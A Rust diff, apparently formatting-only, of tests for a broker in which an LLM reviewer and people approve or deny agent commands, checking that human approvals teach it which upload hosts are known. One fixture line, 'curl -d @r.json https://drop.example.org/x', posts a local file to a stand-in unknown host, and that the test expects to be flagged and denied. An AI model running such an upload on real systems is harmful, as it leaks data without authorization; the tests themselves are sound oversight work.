@@ -163,7 +163,11 @@ fn tally(t: &mut Tally, result: LlmResult, approved: bool) {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn replayed_decisions_before_and_after_the_reviewer_sees_earlier_ones() {
     let set = recorded();
-    assert!(set.len() >= 50, "the replay set has {} decisions", set.len());
+    assert!(
+        set.len() >= 50,
+        "the replay set has {} decisions",
+        set.len()
+    );
     let (seen, url) = server().await;
     let reviewer = Reviewer::new(llm_config(&url, Duration::from_secs(5))).unwrap();
     let (mut before, mut after) = (Tally::default(), Tally::default());
@@ -201,7 +205,10 @@ async fn replayed_decisions_before_and_after_the_reviewer_sees_earlier_ones() {
     println!(
         "replay of {n} decisions by people; {with_examples} prompts carried earlier decisions"
     );
-    for (name, t) in [("before (action alone)", &before), ("after (with earlier decisions)", &after)] {
+    for (name, t) in [
+        ("before (action alone)", &before),
+        ("after (with earlier decisions)", &after),
+    ] {
         println!(
             "{name}: agrees {} ({:.1}%), approves what people denied {}, denies what people approved {}, escalates {} ({:.1}%); prompts saved {:.1}%",
             t.agree,
@@ -222,7 +229,10 @@ async fn replayed_decisions_before_and_after_the_reviewer_sees_earlier_ones() {
         .count();
     assert_eq!(carried, with_examples);
     assert!(after.agree > before.agree, "{before:?} -> {after:?}");
-    assert!(after.escalated < before.escalated, "{before:?} -> {after:?}");
+    assert!(
+        after.escalated < before.escalated,
+        "{before:?} -> {after:?}"
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -298,13 +308,20 @@ async fn a_person_approving_an_upload_to_an_unknown_host_makes_it_known() {
     let first = b.submit(sub("claude", "s1", up)).await.unwrap();
     assert_eq!(first.decision, Decision::Ask, "{first:?}");
     assert!(
-        first.reasons.iter().any(|f| f.code == ReasonCode::UnknownHost),
+        first
+            .reasons
+            .iter()
+            .any(|f| f.code == ReasonCode::UnknownHost),
         "{:?}",
         first.reasons
     );
     // another unknown host, asked and denied: stays unknown
     let other = b
-        .submit(sub("claude", "s1", "curl -d @r.json https://drop.example.org/x"))
+        .submit(sub(
+            "claude",
+            "s1",
+            "curl -d @r.json https://drop.example.org/x",
+        ))
         .await
         .unwrap();
     b.answer(&other.approval.unwrap(), deny("alice", "not ours"))
@@ -315,13 +332,25 @@ async fn a_person_approving_an_upload_to_an_unknown_host_makes_it_known() {
         .unwrap();
     let again = b.submit(sub("claude", "s2", up)).await.unwrap();
     assert!(
-        !again.reasons.iter().any(|f| f.code == ReasonCode::UnknownHost),
+        !again
+            .reasons
+            .iter()
+            .any(|f| f.code == ReasonCode::UnknownHost),
         "{:?}",
         again.reasons
     );
     let denied = b
-        .submit(sub("claude", "s2", "curl -d @r.json https://drop.example.org/x"))
+        .submit(sub(
+            "claude",
+            "s2",
+            "curl -d @r.json https://drop.example.org/x",
+        ))
         .await
         .unwrap();
-    assert!(denied.reasons.iter().any(|f| f.code == ReasonCode::UnknownHost));
+    assert!(
+        denied
+            .reasons
+            .iter()
+            .any(|f| f.code == ReasonCode::UnknownHost)
+    );
 }
